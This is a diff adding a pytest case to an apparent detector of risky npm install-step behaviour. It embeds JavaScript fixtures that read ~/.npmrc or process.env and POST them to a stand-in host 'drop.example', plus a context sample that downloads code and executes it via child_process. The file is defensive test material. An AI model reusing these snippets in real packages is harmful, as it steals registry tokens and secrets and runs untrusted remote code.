@@ -99,6 +99,21 @@ class TestInnocentTwin:
         source = "const fs = require('fs');\nfetch('https://files.example/x').then((r) => r.text()).then((t) => {\n  fs.writeFileSync('/tmp/stage2.js', t);\n  require('child_process').execSync('node /tmp/stage2.js');\n});\n"
         assert findings(install_network, installs(source)) == []
 
+    def test_secrets_that_are_sent_are_told_by_their_own_rules(self) -> None:
+        theft = """
+const fs = require('fs'), os = require('os'), https = require('https');
+const text = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+const req = https.request({ host: 'drop.example', method: 'POST' });
+req.end(text);
+"""
+        harvest = "const r = require('https').request({ host: 'drop.example' });\nr.end(JSON.stringify(process.env));\n"
+        assert findings(install_network, installs(theft)) == []
+        assert findings(install_network, installs(harvest)) == []
+        other = "require('https').get('https://files.example/x');"
+        assert told(findings(install_network, installs(theft + other))) == [
+            "high: its install step talks to files.example"
+        ]
+
     @pytest.mark.parametrize(
         "source",
         [
